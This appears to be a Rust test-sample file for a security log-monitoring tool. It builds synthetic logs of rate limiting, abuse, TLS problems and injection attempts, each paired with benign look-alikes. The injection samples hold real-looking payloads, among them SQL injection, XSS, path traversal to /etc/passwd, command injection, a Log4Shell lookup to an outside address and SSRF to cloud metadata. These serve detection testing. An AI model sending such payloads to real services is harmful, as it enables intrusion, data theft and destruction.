//! Requests: too many, strange, hostile.

use serde_json::json;

use super::{MINUTE, SECOND, Sample, sample};
use soctop::samples::systems::{MarketLine, Request};

pub(super) fn rate_limits() -> Vec<Sample> {
    vec![
        sample("rate-limits-client", "one client far over its limit, refused again and again", |tape| {
            tape.shop_visit(0, "10.30.0.5");
            tape.shop_rate_limited(5 * SECOND, "198.51.100.77", 12, 1_200);
            tape.shop_visit(25 * SECOND, "10.30.0.6");
        }),
        sample("rate-limits-login", "a login form that is limited to five tries a minute", |tape| {
            tape.media_visit(0, "10.20.0.14");
            tape.media_rate_limited(3 * SECOND, "203.0.113.50", 24);
        }),
        sample("rate-limits-flood", "the flood protection of the marketplace refuses one address", |tape| {
            tape.market_visit(0, "10.40.7.3");
            tape.market_flood(2 * SECOND, "203.0.113.24", 15);
        }),
        sample("rate-limits-customer", "a customer sends more than the tier allows", |tape| {
            for n in 0..5 {
                tape.market_request(
                    n * 4 * SECOND,
                    &Request::post("10.40.7.3", "/api/v1/agents/report-writer/execute", 429),
                    &[(
                        "WARNING",
                        "core.rate_limiter",
                        "Rate limit exceeded for cust_1001 (tier: solo, scope: global, window: minute)",
                    )],
                );
            }
            tape.market(
                30 * SECOND,
                "WARNING",
                "core.rate_limiter",
                "Rate limit exceeded for cust_1001 (tier: solo, scope: global, window: minute)",
                "",
            );
        }),
        sample(
            "rate-limits-client.benign",
            "a limit touched once, and words about limits that are no refusal",
            |tape| {
                tape.shop_visit(0, "10.30.0.5");
                tape.shop_rate_limited(5 * SECOND, "10.30.0.6", 1, 1_000);
                tape.market(
                    9 * SECOND,
                    "INFO",
                    "core.rate_limiter",
                    "Reset all rate limits for customer cust_1001",
                    "",
                );
                tape.lattice(
                12 * SECOND,
                "auth.middleware",
                "WARNING",
                "Using in-memory rate limiting for ip:10.70.0.4. Configure Redis for production-grade rate limiting.",
            );
                tape.lattice_visit(12 * SECOND, "10.70.0.4");
                tape.shop_visit(40 * SECOND, "10.30.0.6");
            },
        ),
    ]
}

pub(super) fn abuse() -> Vec<Sample> {
    vec![
        sample(
            "abuse-blocked-address",
            "too many violations: the service blocks the address for 15 minutes",
            |tape| {
                tape.shop_visit(0, "10.30.0.5");
                tape.shop_rate_limited(5 * SECOND, "198.51.100.77", 5, 900);
                tape.shop_address_blocked(10 * SECOND, "198.51.100.77");
                tape.shop_visit(20 * SECOND, "10.30.0.6");
            },
        ),
        sample("abuse-blocked-address.benign", "an address that is busy, but within its limits", |tape| {
            for n in 0..9 {
                tape.shop_visit(n * 1_500, "10.30.0.6");
            }
        }),
        sample("abuse-shared-key", "one API key at eight addresses with changing agents: score 50", |tape| {
            tape.market_banner(0);
            tape.market_visit(500, "10.40.7.3");
            tape.key_shared_by_many(3 * SECOND, "cust_1002", 8);
        }),
        sample("abuse-scan", "a scanner walks through paths under its own name", |tape| {
            tape.path_scan(0, "203.0.113.66", 30);
        }),
        sample("abuse-scan.benign", "a few dead links", |tape| {
            for n in 0..6 {
                tape.media_nginx(n * 4 * SECOND, "", &Request::get("10.20.0.14", "/favicon.ico", 404));
                tape.media_visit(n * 4 * SECOND + 900, "10.20.0.14");
            }
        }),
        sample("abuse-other-peoples-objects", "somebody counts through the ids of videos", |tape| {
            for n in 0..14u64 {
                let target = format!("/api/videos/{}", n + 1);
                tape.media_nginx(n * 1_300, "", &Request::get("10.20.0.23", &target, 403));
                tape.media_denied(n * 1_300 + 2, "jin.park", "10.20.0.23", &format!("video:{}", n + 1));
            }
        }),
        sample("abuse-other-peoples-objects.benign", "links to three videos that are gone", |tape| {
            for n in 0..3 {
                let target = format!("/api/videos/{}", n + 40);
                tape.media_nginx(n * 20 * SECOND, "", &Request::get("10.20.0.14", &target, 404));
                tape.media_visit(n * 20 * SECOND + 900, "10.20.0.14");
            }
        }),
        sample("abuse-deletion.benign", "somebody removes two of his videos", |tape| {
            for (n, failure) in
                [Some("invalid_password"), Some("invalid_password"), None].into_iter().enumerate()
            {
                tape.media_login(n as u64 * 9 * SECOND, "maya.lopes", "10.20.0.14", failure);
            }
            for n in 0..2 {
                let (at, resource) = (MINUTE + n * 9 * SECOND, format!("video:{}", n + 1));
                tape.media_change(at, "video_deleted", "maya.lopes", &resource, json!(null), "10.20.0.14");
            }
        }),
        sample("abuse-deletion", "a guessed password, and three objects are gone", |tape| {
            tape.guessing_with_success(0, "maya.lopes", "203.0.113.140");
            for n in 0..3 {
                let resource = format!("video:{}", n + 1);
                tape.media_change(
                    4 * MINUTE + n * 9 * SECOND,
                    "video_deleted",
                    "maya.lopes",
                    &resource,
                    json!(null),
                    "203.0.113.140",
                );
            }
        }),
        sample("abuse-clockwork", "ten requests like clockwork, with changing agents", |tape| {
            let agents =
                ["curl/8.5.0", "python-requests/2.32.3", "Go-http-client/2.0", "okhttp/4.12.0", "Wget/1.21"];
            for n in 0..12u64 {
                let agent = agents[(n % 5) as usize];
                tape.media_combined(
                    n * 4_000,
                    &Request { agent, ..Request::get("203.0.113.77", "/api/videos", 200) },
                );
            }
        }),
        sample(
            "abuse-shared-key.benign",
            "two people of one customer, a little odd to the service",
            |tape| {
                for n in 0..5 {
                    tape.market_visit(n * 4 * SECOND, if n % 2 == 0 { "10.40.7.3" } else { "10.40.7.4" });
                }
                tape.like("abuse_score", |tape| {
                    let fields = [("customer_id", json!("cust_1001")), ("risk_score", json!(20))];
                    let message = "Suspicious activity detected";
                    tape.market_with(
                        22 * SECOND,
                        &MarketLine { level: "WARNING", logger: "api.v1.marketplace", message, trace: "" },
                        &fields,
                    );
                });
            },
        ),
    ]
}

pub(super) fn injection() -> Vec<Sample> {
    vec![
        sample(
            "injection-blocked",
            "six payloads of five families in the query; the middleware refuses them",
            |tape| {
                tape.shop_visit(0, "10.30.0.5");
                tape.shop_injection(
                    3 * SECOND,
                    "203.0.113.90",
                    &[
                        "/api/v1/products?q=1+UNION+SELECT+password+FROM+users",
                        "/api/v1/products?q=1%27+OR+%271%27%3D%271",
                        "/api/v1/products?q=%3Cscript%3Ealert(1)%3C/script%3E",
                        "/api/v1/files?name=../../../../etc/passwd",
                        "/api/v1/run?c=%3Bcat+/etc/passwd",
                        "/api/v1/products?q=x%27%3B+DROP+TABLE+orders--",
                    ],
                    3 * SECOND,
                );
            },
        ),
        sample(
            "injection-joined",
            "alert lines without address or payload: both stand in another line of the same request",
            |tape| {
                tape.market_visit(0, "10.40.7.3");
                let targets = [
                    ("/api/v1/packages?q=1%27+OR+%271%27%3D%271", "SQL injection"),
                    ("/api/v1/packages?q=1+UNION+SELECT+a+FROM+b", "SQL injection"),
                    ("/api/v1/packages?q=x%27%3B+DROP+TABLE+agents--", "SQL injection"),
                    ("/api/v1/packages?q=%3Cscript%3Ealert%281%29%3C%2Fscript%3E", "XSS"),
                    ("/api/v1/packages?q=1%27+AND+SLEEP%285%29--+-", "SQL injection"),
                ];
                for (n, (target, family)) in targets.iter().enumerate() {
                    tape.market_injection(2 * SECOND + n as u64 * 5 * SECOND, "203.0.113.21", target, family);
                }
            },
        ),
        sample(
            "injection-unseen",
            "payloads that only the proxy's log shows: nothing refused them",
            |tape| {
                for (n, target) in [
                    "/api/videos?id=1%20UNION%20ALL%20SELECT%20NULL%2Cversion()--",
                    "/api/videos?title=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E",
                    "/static/..%2f..%2f..%2fetc%2fpasswd",
                    "/api/export?name=a%24(id)",
                    "/api/videos?id=1%27%20AND%20(SELECT%201%20FROM%20pg_sleep(5))--",
                ]
                .iter()
                .enumerate()
                {
                    tape.media_combined(n as u64 * 4 * SECOND, &Request::get("203.0.113.91", target, 200));
                    tape.media_combined(
                        n as u64 * 4 * SECOND + 900,
                        &Request::get("10.20.0.14", "/api/videos?page=2", 200),
                    );
                }
            },
        ),
        sample("injection-other", "payloads of the rarer families, as the proxy logs them", |tape| {
            for (n, target) in [
                "/api/users?name[$ne]=x",
                "/api/greet?name={{7*7}}",
                "/api/people?filter=*)(uid=*",
                "/api/go?to=%0d%0aSet-Cookie:%20a=b",
                "/api/import?x=%3C!DOCTYPE%20a%20SYSTEM%20%22file:///etc/hosts%22%3E",
                "/api/log?x=$%7Bjndi:ldap://203.0.113.91/a%7D",
                "/api/fetch?url=http://169.254.169.254/latest/meta-data/",
            ]
            .iter()
            .enumerate()
            {
                tape.media_combined(n as u64 * 40 * SECOND, &Request::get("203.0.113.91", target, 400));
            }
        }),
        sample("injection-reached", "one payload, tried twice, over which the service fails", |tape| {
            let target = "/api/videos?id=7%27%20OR%20%271%27=%271";
            tape.media_combined(0, &Request::get("203.0.113.92", "/api/videos?page=1", 200));
            tape.media_combined(4 * SECOND, &Request::get("203.0.113.92", "/api/videos?page=2", 200));
            tape.media_combined(9 * SECOND, &Request::get("203.0.113.92", target, 500));
            tape.media_combined(31 * SECOND, &Request::get("203.0.113.92", target, 500));
        }),
        sample(
            "injection-blocked.benign",
            "ordinary paths and questions that naive patterns take for attacks",
            |tape| {
                tape.shop_injection(
                    0,
                    "10.30.0.5",
                    &[
                        "/api/v1/users/update",
                        "/api/v1/products?condition=new",
                        "/api/v1/products?session=1;v=2",
                    ],
                    4 * SECOND,
                );
                for (n, target) in [
                    "/api/v1/packages?q=issue+%2342",
                    "/api/v1/packages?q=blue+--+large",
                    "/api/v1/packages?q=select+a+plan+from+the+list",
                    "/api/v1/packages?q=terms+and+conditions+%3D+yes",
                ]
                .iter()
                .enumerate()
                {
                    tape.market_injection(
                        20 * SECOND + n as u64 * 5 * SECOND,
                        "100.70.1.4",
                        target,
                        "SQL injection",
                    );
                }
                tape.media_combined(
                    50 * SECOND,
                    &Request::get("10.20.0.14", "/api/videos?title=union+square+was+a+great+select", 200),
                );
                tape.media_combined(
                    51 * SECOND,
                    &Request::get("10.20.0.14", "/docs/scripts/alert-and-confirm.html", 200),
                );
            },
        ),
    ]
}

pub(super) fn transport() -> Vec<Sample> {
    vec![
        sample("transport-old-tls", "old protocols, failed handshakes, plain HTTP on the TLS port", |tape| {
            let request = Request::get("203.0.113.94", "/api/videos", 200);
            tape.media_nginx_tls(0, "", &request, "TLSv1");
            tape.media_nginx_tls(SECOND, "", &request, "TLSv1.1");
            for n in 0..11 {
                let what = "SSL_do_handshake() failed (SSL: error:0A000102:SSL routines::unsupported protocol) while SSL handshaking";
                tape.media_nginx_error(3 * SECOND + n * 2_000, "info", what, &request);
            }
            tape.media_nginx_error(
                30 * SECOND,
                "info",
                "client sent plain HTTP request to HTTPS port while reading client request headers",
                &request,
            );
        }),
        sample("transport-old-tls.benign", "current protocols, one client that hangs up", |tape| {
            for n in 0..5 {
                tape.media_visit(n * 3 * SECOND, "10.20.0.14");
            }
            let request = Request::get("10.20.0.14", "/api/videos", 200);
            tape.media_nginx_error(
                20 * SECOND,
                "info",
                "peer closed connection in SSL handshake while SSL handshaking",
                &request,
            );
        }),
        sample("transport-handshake.benign", "two clients that are too old to connect", |tape| {
            for n in 0..2 {
                let what = "SSL_do_handshake() failed (SSL: error:0A000102:SSL routines::unsupported protocol) while SSL handshaking";
                let request = Request::get("10.20.0.14", "/api/videos", 200);
                tape.media_nginx_error(n * 20 * SECOND, "info", what, &request);
                tape.media_visit(n * 20 * SECOND + 900, "10.20.0.14");
            }
        }),
        sample("transport-host-header", "foreign host names, refused origins and policy reports", |tape| {
            for (n, host) in
                ["evil.example", "169.254.169.254.example", "localhost.evil.example"].iter().enumerate()
            {
                tape.media_nginx_host(
                    n as u64 * SECOND,
                    host,
                    &Request::get("203.0.113.93", "/api/auth/login", 400),
                );
            }
            let fields = [("client_ip", json!("203.0.113.93")), ("origin", json!("https://evil.example"))];
            tape.assist(10 * SECOND, "warning", "invalid_host_header", &fields);
            tape.assist(12 * SECOND, "warning", "cors_denied", &fields);
            tape.assist(
                14 * SECOND,
                "warning",
                "csp_violation",
                &[("directive", json!("script-src")), ("blocked_uri", json!("https://evil.example/x.js"))],
            );
            tape.assist(
                16 * SECOND,
                "warning",
                "security_headers_missing",
                &[("headers", json!("strict-transport-security"))],
            );
        }),
        sample("transport-host-header.benign", "bad requests to the right host", |tape| {
            for n in 0..5 {
                tape.media_nginx(n * SECOND, "", &Request::post("10.20.0.14", "/api/videos", 400));
            }
        }),
        sample("transport-oversized", "requests that are too long, too large or of the wrong type", |tape| {
            for (n, (status, message)) in [
                (400, "Request URL too long"),
                (413, "Request body too large"),
                (415, "Invalid content type"),
            ]
            .iter()
            .enumerate()
            {
                tape.market_request(
                    n as u64 * 4 * SECOND,
                    &Request::post("203.0.113.23", "/api/v1/search", *status),
                    &[("WARNING", "core.security_middleware", message)],
                );
            }
            let large = Request::post("203.0.113.92", "/api/videos", 413);
            tape.media_nginx_error(
                20 * SECOND,
                "error",
                "client intended to send too large body: 3000000 bytes",
                &large,
            );
        }),
    ]
}
